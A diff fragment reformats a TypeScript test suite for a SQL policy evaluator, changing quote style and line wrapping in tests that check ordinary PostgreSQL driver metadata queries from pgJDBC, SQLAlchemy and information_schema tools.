-    const d = evaluate('SELECT upper(c.name), o.total FROM customers c JOIN orders o ON o.customer_id = c.id', 'simple', s(), CATALOG);
+    const d = evaluate(
+      'SELECT upper(c.name), o.total FROM customers c JOIN orders o ON o.customer_id = c.id',
+      'simple',
+      s(),
+      CATALOG,
+    );
     expect(d.statements).toHaveLength(1);
     const st = d.statements[0];
     expect(st?.kind).toBe('SelectStmt');
@@ -763,13 +909,13 @@ describe('decision details', () => {
   it('driver metadata queries pass for an introspection role', () => {
     const queries = [
       // pgJDBC TypeInfoCache
-      "SELECT n.nspname = ANY(current_schemas(true)), n.nspname, t.typname FROM pg_catalog.pg_type t JOIN pg_catalog.pg_namespace n ON t.typnamespace = n.oid WHERE t.oid = $1",
+      'SELECT n.nspname = ANY(current_schemas(true)), n.nspname, t.typname FROM pg_catalog.pg_type t JOIN pg_catalog.pg_namespace n ON t.typnamespace = n.oid WHERE t.oid = $1',
       "SELECT typinput='pg_catalog.array_in'::regproc as is_array, typtype, typname, pg_type.oid FROM pg_catalog.pg_type LEFT JOIN (select ns.oid as nspoid, ns.nspname, r.r from pg_namespace as ns join ( select s.r, (current_schemas(false))[s.r] as nspname from generate_series(1, array_upper(current_schemas(false), 1)) as s(r) ) as r using ( nspname ) ) as sp ON sp.nspoid = typnamespace WHERE pg_type.oid = $1 ORDER BY sp.r, pg_type.oid DESC",
       // SQLAlchemy has_table
-      "SELECT pg_catalog.pg_class.relname FROM pg_catalog.pg_class JOIN pg_catalog.pg_namespace ON pg_catalog.pg_namespace.oid = pg_catalog.pg_class.relnamespace WHERE pg_catalog.pg_class.relname = $1::VARCHAR AND pg_catalog.pg_class.relkind = ANY (ARRAY[$2::VARCHAR, $3::VARCHAR]) AND pg_catalog.pg_table_is_visible(pg_catalog.pg_class.oid) AND pg_catalog.pg_namespace.nspname != $4::VARCHAR",
+      'SELECT pg_catalog.pg_class.relname FROM pg_catalog.pg_class JOIN pg_catalog.pg_namespace ON pg_catalog.pg_namespace.oid = pg_catalog.pg_class.relnamespace WHERE pg_catalog.pg_class.relname = $1::VARCHAR AND pg_catalog.pg_class.relkind = ANY (ARRAY[$2::VARCHAR, $3::VARCHAR]) AND pg_catalog.pg_table_is_visible(pg_catalog.pg_class.oid) AND pg_catalog.pg_namespace.nspname != $4::VARCHAR',
       // information_schema-based tools
       "SELECT column_name, data_type, is_nullable FROM information_schema.columns WHERE table_schema = 'public' AND table_name = 'orders' ORDER BY ordinal_position",
-      "SELECT (information_schema._pg_expandarray(i.indkey)).n FROM pg_catalog.pg_index i",
+      'SELECT (information_schema._pg_expandarray(i.indkey)).n FROM pg_catalog.pg_index i',
     ];
     for (const q of queries) {
       const d = evaluate(q, 'parse', sessionFor(ROLES.intro), CATALOG);
